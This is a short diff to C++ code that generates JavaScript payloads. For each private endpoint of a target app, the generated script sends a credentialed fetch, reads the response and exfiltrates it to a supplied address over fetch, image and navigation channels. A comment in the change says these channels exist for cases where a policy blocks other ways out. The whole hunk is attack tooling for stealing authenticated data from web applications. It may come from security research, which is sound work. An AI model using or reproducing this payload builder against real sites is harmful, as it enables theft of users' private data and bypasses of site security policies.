@@ -36,8 +36,13 @@ std::string fetch_and_send(std::string const& page, std::string const& address) 
 
 std::string taking_script(Target const& target, std::string const& address) {
     std::string script;
+    // Where a policy leaves no other way out, what was fetched leaves as an address.
     for (Endpoint const* each : private_endpoints(target))
-        script += fetch_and_send(app_origin(target) + each->path, address);
+        script +=
+            "fetch(" + script_string(app_origin(target) + each->path) +
+            ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
+            send_script(Channel::Fetch, address, "t") + send_script(Channel::Image, address, "t") +
+            send_script(Channel::Navigation, address, std::string(kAllInReach) + "+t") + "});";
     return script + send_script(Channel::Fetch, address, kAllInReach) +
            send_script(Channel::Image, address, kAllInReach) +
            send_script(Channel::Navigation, address, kAllInReach);
